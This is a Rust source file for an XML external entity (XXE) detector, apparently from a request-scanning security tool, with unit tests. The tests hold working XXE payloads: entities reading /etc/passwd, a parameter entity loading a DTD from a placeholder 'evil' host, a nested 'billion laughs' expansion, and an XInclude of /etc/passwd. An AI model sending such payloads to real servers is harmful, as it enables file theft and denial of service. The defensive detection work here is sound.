//! XML external entities: a document that declares entities (`<!ENTITY x SYSTEM "file:///...">`,
//! parameter entities `%x;`), pulls in an external DTD, or uses XInclude, can make the server's
//! parser read local files, reach internal URLs, or expand itself into gigabytes. APIs that take
//! XML have no use for any of these.

use super::{Detector, Hit, Normalized, Place, CRITICAL, ERROR};

pub fn check(v: &Normalized<'_>, _place: Place, out: &mut Vec<Hit>) {
    let c = v.compact();
    if !c.contains("<!") && !c.contains("xinclude") {
        return;
    }
    if let Some(p) = c.find("<!entity") {
        let decl = &c[p..];
        let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
        if decl.contains(" system ") || decl.contains(" public ") || decl.contains("<!entity %") {
            out.push(Hit::new(Detector::Xxe, "external-entity", CRITICAL, 1));
        } else {
            // Internal entities: harmless one by one, a "billion laughs" when they nest.
            out.push(Hit::new(Detector::Xxe, "entity-declaration", CRITICAL, 1));
        }
        return;
    }
    if let Some(p) = c.find("<!doctype") {
        let decl = &c[p..];
        let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
        if decl.contains(" system ") || decl.contains(" public ") {
            out.push(Hit::new(Detector::Xxe, "external-dtd", CRITICAL, 1));
            return;
        }
        if decl.contains('[') {
            out.push(Hit::new(Detector::Xxe, "internal-subset", ERROR, 1));
            return;
        }
    }
    if c.contains("xi:include") || c.contains("w3.org/2001/xinclude") {
        out.push(Hit::new(Detector::Xxe, "xinclude", CRITICAL, 1));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::normalize::{normalize, Encoding};

    fn score(s: &str) -> u8 {
        let mut out = Vec::new();
        check(&normalize(s, Encoding::Plain), Place::Body, &mut out);
        out.iter().map(|h| h.score).sum()
    }

    #[test]
    fn entity_tricks_are_caught() {
        assert!(score("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>") >= 5);
        assert!(score("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]>") >= 5);
        assert!(score("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>") >= 5);
        assert!(score("<!DOCTYPE r SYSTEM \"http://evil/x.dtd\"><r/>") >= 5);
        assert!(score("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></r>") >= 5);
        assert_eq!(score("<?xml version=\"1.0\"?><order><id>1</id></order>"), 0);
        assert_eq!(score("<!-- a comment --><r/>"), 0);
    }
}
